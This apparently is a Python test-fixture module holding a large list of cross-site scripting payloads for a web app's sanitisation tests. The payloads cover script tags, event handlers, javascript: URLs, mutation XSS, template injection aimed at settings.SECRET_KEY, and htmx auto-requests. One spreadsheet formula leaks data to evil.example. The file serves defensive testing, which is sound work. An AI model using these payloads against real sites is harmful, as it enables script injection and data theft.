"""Hostile content for the XSS suite: what an instructor (or a learner, in a name) might paste.

Every payload carries its own number ``n``: ``alert(n)`` names it when a dialog fires, the token
``XSS-n`` marks any element or attribute it manages to introduce, and ``/xss-probe-n`` is the URL it
tries to load, so that a request the page makes because of it shows up in the network log.
"""

from dataclasses import dataclass

MARKER = "XSS-"
PROBE = "/xss-probe-"


@dataclass(frozen=True)
class Payload:
    n: int
    kind: str
    text: str

    @property
    def token(self) -> str:
        return f"{MARKER}{self.n}"


# (kind, template): ``{n}`` becomes the payload's number. Plain replace, not str.format, so that the
# template-injection strings keep their braces.
_TEMPLATES: list[tuple[str, str]] = [
    # <script> in its many spellings
    ("script", "<script>alert({n})</script>XSS-{n}"),
    ("script", "<SCRIPT SRC=/xss-probe-{n}.js></SCRIPT>XSS-{n}"),
    ("script", "<scr<script>ipt>alert({n})</scr</script>ipt>XSS-{n}"),
    ("script", '<script id="XSS-{n}" src="data:text/javascript,alert({n})"></script>'),
    ("script", "<ScRiPt >alert({n})</sCrIpT >XSS-{n}"),
    ("script", "<<script>alert({n});//<</script>XSS-{n}"),
    # event handlers
    ("handler", "<img src=/xss-probe-{n} onerror=alert({n}) id=XSS-{n}>"),
    ("handler", '<img src="x" onerror="alert({n})" class="XSS-{n}">'),
    ("handler", "<svg onload=alert({n}) id=XSS-{n}>"),
    ("handler", "<svg/onload=alert({n})//XSS-{n}"),
    ("handler", "<body onload=alert({n}) class=XSS-{n}>"),
    ("handler", "<details open ontoggle=alert({n}) id=XSS-{n}><summary>XSS-{n}</summary></details>"),
    ("handler", "<iframe src=/xss-probe-{n} onload=alert({n}) id=XSS-{n}></iframe>"),
    ("handler", '<iframe srcdoc="&lt;script&gt;parent.alert({n})&lt;/script&gt;" id=XSS-{n}></iframe>'),
    ("handler", "<input autofocus onfocus=alert({n}) id=XSS-{n}>"),
    ("handler", "<video><source onerror=alert({n}) src=/xss-probe-{n}></video>XSS-{n}"),
    ("handler", "<div onmouseover=alert({n}) id=XSS-{n}>hover XSS-{n}</div>"),
    ("handler", "<marquee onstart=alert({n}) class=XSS-{n}>XSS-{n}</marquee>"),
    # javascript: and data: URLs, as markdown and as raw anchors
    ("url", "[XSS-{n} link](javascript:alert({n}))"),
    ("url", "[XSS-{n} link](JaVaScRiPt:alert({n}))"),
    ("url", "![XSS-{n} image](javascript:alert({n}))"),
    ("url", "![XSS-{n} image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("url", "[XSS-{n} data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("url", "[XSS-{n} ref][r{n}]\n\n[r{n}]: javascript:alert({n})"),
    ("url", "<javascript:alert({n})> XSS-{n}"),
    ("url", '<a href="javascript:alert({n})" id="XSS-{n}">XSS-{n}</a>'),
    ("url", '<a href="  javascript:alert({n})">XSS-{n}</a>'),
    ("url", '<a href="data:text/html,&lt;script&gt;alert({n})&lt;/script&gt;">XSS-{n}</a>'),
    ("url", '<object data="javascript:alert({n})" id=XSS-{n}></object><embed src="javascript:alert({n})">'),
    ("url", '[XSS-{n} title](/ "\\" onmouseover=alert({n}) x=\\"")'),
    # entity- and case-obfuscated
    ("obfuscated", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert({n})">XSS-{n}</a>'),
    ("obfuscated", '<a href="jav&#x09;ascript:alert({n})">XSS-{n}</a>'),
    ("obfuscated", '<a href="jav&#x0A;ascript:alert({n})">XSS-{n}</a>'),
    ("obfuscated", "<IMG SRC=JaVaScRiPt:alert({n}) ID=XSS-{n}>"),
    ("obfuscated", "<img src=x:alert(alt) onerror=eval(src) alt={n} id=XSS-{n}>"),
    ("obfuscated", "&lt;script&gt;alert({n})&lt;/script&gt; XSS-{n}"),
    ("obfuscated", '<a href="\\x6Aavascript:alert({n})">XSS-{n}</a>'),
    # SVG and MathML tricks, mutation XSS
    ("svg", "<svg><script>alert({n})</script></svg>XSS-{n}"),
    ("svg", '<svg><a xlink:href="javascript:alert({n})"><text x="20" y="20">XSS-{n}</text></a></svg>'),
    ("svg", "<svg><animate onbegin=alert({n}) attributeName=x dur=1s></svg>XSS-{n}"),
    ("svg", '<svg><use href="/xss-probe-{n}#x"/></svg>XSS-{n}'),
    ("mathml", "<math><mtext><table><mglyph><style><img src=/xss-probe-{n} onerror=alert({n})>XSS-{n}"),
    ("mathml", '<math><maction actiontype="statusline" xlink:href="javascript:alert({n})">XSS-{n}</maction></math>'),
    ("mathml", '<noscript><p title="</noscript><img src=/xss-probe-{n} onerror=alert({n})>">XSS-{n}'),
    (
        "mathml",
        "<form><math><mtext></form><form><mglyph><style></math><img src=/xss-probe-{n} onerror=alert({n})>XSS-{n}",
    ),
    # broken and unclosed markup
    ("broken", "<img src=/xss-probe-{n} onerror=alert({n}) id=XSS-{n}"),
    ("broken", '<a href="javascript:alert({n})" id="XSS-{n}"'),
    ("broken", '<!--<img src="--><img src=/xss-probe-{n} onerror=alert({n})>XSS-{n}'),
    ("broken", "<![CDATA[<script>alert({n})</script>]]>XSS-{n}"),
    ("broken", "<p <script>alert({n})</script> XSS-{n}"),
    ("broken", "`<code>` </code><script>alert({n})</script> XSS-{n}"),
    # attribute breakouts (where text lands in value="...", aria-label, <option>, <title>, SVG <text>)
    ("breakout", '" onmouseover="alert({n})" autofocus onfocus="alert({n})" x="XSS-{n}'),
    ("breakout", "' onmouseover='alert({n})' autofocus onfocus='alert({n})' x='XSS-{n}"),
    ("breakout", '"><script>alert({n})</script><p class="XSS-{n}'),
    ("breakout", "</option></select><img src=/xss-probe-{n} onerror=alert({n})>XSS-{n}"),
    ("breakout", "</title><script>alert({n})</script>XSS-{n}"),
    ("breakout", "</text></svg><img src=/xss-probe-{n} onerror=alert({n})>XSS-{n}"),
    ("breakout", "</textarea><script>alert({n})</script>XSS-{n}"),
    # template injection (Django, Jinja and friends): must stay literal text
    ("template", "{{ request }} {{ request.META }} XSS-{n}"),
    ("template", "{% debug %} XSS-{n}"),
    ("template", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> XSS-{n}"),
    ("template", "{{ settings.SECRET_KEY }} {% load static %}{% csrf_token %} XSS-{n}"),
    ("template", '{% include "404.html" %}{{ user.password }} XSS-{n}'),
    # htmx: attributes that would make the page fetch, post or run code
    ("htmx", '<div hx-get="/xss-probe-{n}" hx-trigger="load" id="XSS-{n}">XSS-{n}</div>'),
    ("htmx", '<a hx-post="/accounts/me/delete/" hx-trigger="load" hx-vals=\'{"password":"x"}\'>XSS-{n}</a>'),
    ("htmx", '<div hx-on:click="alert({n})" hx-on::load="alert({n})" class="XSS-{n}">XSS-{n}</div>'),
    ("htmx", '<span data-hx-get="/xss-probe-{n}" data-hx-trigger="load">XSS-{n}</span>'),
    ("htmx", '<div id="completion" hx-swap-oob="true">XSS-{n}</div>'),
    ("htmx", '<form hx-post="/cohorts/join/" hx-trigger="load"><input name="code" value="XSS-{n}"></form>'),
    ("htmx", '<p data-focus-after-swap hx-headers=\'{"X-CSRFToken":"XSS-{n}"}\' hx-target="body">XSS-{n}</p>'),
    # the app's own classes and ids, which content must not borrow (styling, DOM clobbering)
    ("app-hook", '<span class="map-node">XSS-{n}</span><span class="no-print num">XSS-{n}</span>'),
    ("app-hook", '<h2 id="completion">XSS-{n}</h2><a name="content" id="content">XSS-{n}</a>'),
    # a spreadsheet formula, for the cohort's CSV export (a name a learner chose, opened by the lead)
    ("formula", '=HYPERLINK("https://evil.example/?leak="&A1,"XSS-{n}")'),
    # other elements that change the whole page
    ("page", '<base href="/xss-probe-{n}/"><meta http-equiv="refresh" content="0;url=javascript:alert({n})">XSS-{n}'),
    ("page", "<style>@import '/xss-probe-{n}.css';</style><link rel=stylesheet href=/xss-probe-{n}.css>XSS-{n}"),
]

PAYLOADS: list[Payload] = [
    Payload(n, kind, template.replace("{n}", str(n))) for n, (kind, template) in enumerate(_TEMPLATES, start=1)
]

# What the learner types into a short-text answer (shown back to them, and to their lead as the
# most common wrong answer): at most 200 characters, like the form allows.
TYPED_ANSWER = Payload(
    900, "typed", '"><img src=/xss-probe-900 onerror=alert(900) id=XSS-900><script>alert(900)</script>'
)
# What the lead types into the overview filter, echoed in the search box and the sort links.
FILTER_QUERY = Payload(901, "query", '"><script>alert(901)</script><img src=/xss-probe-901 onerror=alert(901)>')
# What the learner searches for, echoed in the search box and the result count.
SEARCH_QUERY = Payload(902, "query", "</title><svg onload=alert(902)>")


def every_payload() -> str:
    """All payloads as one markdown document, one paragraph each."""
    return "\n\n".join(p.text for p in PAYLOADS)


def every_payload_line() -> str:
    """All payloads one a line (the fields that list one item a line: takeaways, objectives)."""
    return "\n".join(p.text.replace("\n", " ") for p in PAYLOADS)


def chunks(limit: int, *, suffix: str = "") -> list[str]:
    """The payloads packed into strings of at most ``limit`` characters (with ``suffix`` after each),
    so that a short field such as a title carries every payload across a few objects. A payload
    longer than the field is cut, as the field would cut it: a broken-markup variant for free."""
    room = limit - len(suffix)
    packed, current = [], ""
    for payload in PAYLOADS:
        text = payload.text.replace("\n", " ")[:room]
        candidate = f"{current} {text}" if current else text
        if len(candidate) <= room:
            current = candidate
        else:
            packed.append(current + suffix)
            current = text
    if current:
        packed.append(current + suffix)
    return packed


# Strings that would show that a template was evaluated rather than shown as text.
TEMPLATE_LEAKS = ("<WSGIRequest", "WSGIRequest", "SimpleLazyObject", "sql_queries", "'wsgi.input'", "md5$", "pbkdf2_")
